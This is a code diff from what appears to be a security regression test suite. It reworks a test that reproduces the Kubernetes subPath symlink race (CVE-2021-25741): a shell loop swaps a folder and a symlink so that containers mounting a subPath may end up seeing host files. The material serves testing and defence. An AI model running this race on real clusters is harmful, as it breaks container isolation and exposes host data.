@@ -93,7 +93,8 @@ export const subPathRace = attack<Escapes>({
   mustNot: 'a container sees a file of the machine',
   pastFault: 'CVE-2021-25741',
   attempt: async (target) => {
-    const swap = `cd /data; while :; do rm -rf d; ln -snf ${target.dir} d; rm -rf d; mkdir d; usleep 20000; done`;
+    // By renames: a folder that is removed while it is mounted would end containers before they look.
+    const swap = `cd /data; mkdir a; ln -s ${target.dir} b; while :; do mv -T a d; usleep 20000; mv -T d a; mv -T b d; mv -T d b; done`;
     const swapper = {
       ...main({ name: 'swapper', command: [...script(swap)], volumeMounts: [mount] }),
       restartPolicy: 'Always',
@@ -105,13 +106,25 @@ export const subPathRace = attack<Escapes>({
         volumeMounts: [{ name: 'data', mountPath: '/mnt', subPath: 'd' }],
       }),
     );
-    const spec: Partial<PodSpec> = { ...quickEnd, initContainers: [swapper, ...tries], volumes: [data] };
+    const spec: Partial<PodSpec> = {
+      ...quickEnd,
+      restartPolicy: 'Never',
+      initContainers: [swapper],
+      containers: tries,
+      volumes: [data],
+    };
     await target.node.create(podManifest('subpath-race', spec));
     // A container whose folder is a link at the wrong moment is refused and tried again; a part of them is enough.
     const logs = async (): Promise<string[]> =>
       Promise.all(tries.map(({ name }) => target.logOf('subpath-race', name)));
-    await target.node.untilReady('subpath-race', { withinMs: 60_000 }).catch(() => undefined);
+    await target.node
+      .until('subpath-race', 'has tried', ({ status }) => /Succeeded|Failed/.test(status?.phase ?? ''), {
+        withinMs: 40_000,
+      })
+      .catch(() => undefined);
     const seen = await logs();
+    if (!seen.some((log) => log.includes('looked')))
+      throw new Error(`no container ran: ${JSON.stringify((await target.node.pod('subpath-race'))?.status)}`);
     await target.node.delete('subpath-race');
     return {
       proof: seen.some((log) => log.includes('looked')),
